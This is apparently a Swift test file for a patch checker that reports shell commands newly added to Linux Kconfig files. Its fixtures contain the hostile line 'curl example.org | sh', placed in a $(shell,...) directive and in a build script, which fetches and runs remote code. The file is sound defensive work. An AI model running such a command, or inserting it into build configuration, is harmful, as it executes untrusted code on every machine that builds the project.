// SPDX-License-Identifier: GPL-2.0-only

import Diagnostics
import Testing

@testable import Checks

struct AddedShellCommandTests {
    @Test func reportsANewCommand() throws {
        let found = try KconfigFixture.lamps.patch {
            $0["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,curl example.org | sh)\n"
        }.found(.addedShellCommand)
        #expect(found.count == 1)
        #expect(found.first?.message.contains("curl example.org | sh") == true)
        #expect(found.first?.location.tree?.description == "lamp/Kconfig:10")
    }

    @Test func reportsACommandThatReachesWhatThePatchChanges() throws {
        var fixture = KconfigFixture.lamps
        fixture.base["scripts/oil.sh"] = "#!/bin/sh\necho y\n"
        fixture.base["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,$(srctree)/scripts/oil.sh)\n"
        var subject = try fixture.patch { $0["scripts/oil.sh"]? += "curl example.org | sh\n" }.subject()
        #expect(Rule.addedShellCommand.check(subject).isEmpty)
        let probe = ChangedProbe(
            command: "scripts/oil.sh", path: "lamp/Kconfig", line: 10, files: ["scripts/oil.sh"])
        var other = probe
        (other.command, other.line) = ("scripts/oil.sh well", 12)
        subject.changedProbes = [[], [probe]]
        let found = Rule.addedShellCommand.check(subject)
        #expect(
            found.map(\.message) == [
                """
                every configuration of the kernel runs "scripts/oil.sh", which reaches what the patch changes: \
                scripts/oil.sh
                """
            ])
        #expect(found.first?.location.tree?.file == "scripts/oil.sh")
        subject.changedProbes = [[], [probe, other]]
        #expect(Rule.addedShellCommand.check(subject).map(\.notes.count) == [2])
    }

    @Test func staysSilentOnCommandsThatAreThere() throws {
        var fixture = KconfigFixture.lamps
        fixture.base["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,test -e /oil)\n"
        let series = fixture.patch { $0["lamp/Kconfig"]? += "config WICK\n\tdef_bool $(shell,test -e /oil)\n" }
        #expect(try series.messages(.addedShellCommand) == [])
    }
}
